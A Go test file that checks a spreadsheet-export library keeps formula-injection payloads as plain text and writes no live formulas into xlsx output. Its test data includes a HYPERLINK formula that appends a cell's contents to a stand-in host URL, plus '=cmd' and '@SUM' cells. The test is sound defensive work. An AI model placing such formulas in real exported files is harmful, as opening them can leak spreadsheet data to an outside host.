package documents

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"strings"
	"testing"

	"rasoat/registry"

	"github.com/xuri/excelize/v2"
)

// Texts that a spreadsheet would run, or take for something else than text.
const dangerousStarts = "=+-@\t\r"

func dangerous(i int) string {
	return string(dangerousStarts[i]) + `HYPERLINK("http://a.example?"&A1,"x")`
}

// A list that was made to do harm is kept as text, and no file that we write makes a spreadsheet run it.
func TestFormulasStayText(t *testing.T) {
	t.Parallel()
	var text strings.Builder
	fmt.Fprintf(&text, "=cmd;;;\n@SUM;Họ tên;Năm sinh;Địa chỉ\n")
	for i := range dangerousStarts {
		fmt.Fprintf(&text, "%d;\"%s\";2015;\"%s\"\n", i, strings.ReplaceAll(dangerous(i), `"`, `""`), strings.ReplaceAll(dangerous(i), `"`, `""`))
	}
	list, err := Open("a.csv", strings.NewReader(text.String()), int64(text.Len()))
	if err != nil {
		t.Fatal(err)
	}
	rows := rowsOf(t, list)
	if len(rows) != len(dangerousStarts) || rows[0].Values.Name != dangerous(0) || rows[0].Values.Address != dangerous(0) {
		t.Fatalf("read %+v", rows)
	}
	var checked, written bytes.Buffer
	if err := WriteChecked(&checked, list, registry.Date{Year: 2026, Month: 11, Day: 22}, func(registry.Code) (string, string, string) { return "=1", "+1", "-1" }); err != nil {
		t.Fatal(err)
	}
	err = WriteList(&written, Meta{Title: "=1+1", Columns: NationalColumns()}, func(yield func(ListRow) bool) {
		for _, row := range rows {
			if !yield(ListRow{Values: row.Values, Software: "=2"}) {
				return
			}
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	for name, content := range map[string][]byte{"checked": checked.Bytes(), "written": written.Bytes()} {
		checkNoFormula(t, name, content)
	}
}

// checkNoFormula looks for formulas in the parts, and at the format of every dangerous cell.
func checkNoFormula(t *testing.T, name string, content []byte) {
	t.Helper()
	archive, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range archive.File {
		if !strings.HasPrefix(part.Name, "xl/worksheets/sheet") {
			continue
		}
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		sheet, err := io.ReadAll(r)
		if err != nil || bytes.Contains(sheet, []byte("<f>")) || bytes.Contains(sheet, []byte("<f ")) {
			t.Errorf("%s: %s holds a formula (%v)", name, part.Name, err)
		}
	}
	f, err := excelize.OpenReader(bytes.NewReader(content))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	seen := 0
	for _, sheet := range f.GetSheetList() {
		cells, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range cells {
			for c, text := range row {
				if !isFormula(text) || len(text) < 2 {
					continue
				}
				seen++
				at, _ := excelize.CoordinatesToCellName(c+1, r+1)
				id, err := f.GetCellStyle(sheet, at)
				if err != nil {
					t.Fatal(err)
				}
				if style, err := f.GetStyle(id); err != nil || style.NumFmt != textFormat {
					t.Errorf("%s: %s!%s holds %q without the format of text: %+v, %v", name, sheet, at, text, style, err)
				}
			}
		}
	}
	if seen < 2*len(dangerousStarts) {
		t.Errorf("%s: only %d cells were looked at", name, seen)
	}
}

func TestFormulasInTextAreQuoted(t *testing.T) {
	t.Parallel()
	for i := range dangerousStarts {
		quoted := quoteFormula(dangerous(i))
		if isFormula(quoted) || unquoteFormula(quoted) != dangerous(i) {
			t.Errorf("%q is written %q", dangerous(i), quoted)
		}
	}
	for _, plain := range []string{"", "Lê An", "'tên'", "0951234567"} {
		if quoteFormula(plain) != plain || unquoteFormula(plain) != plain {
			t.Errorf("%q is changed", plain)
		}
	}
}
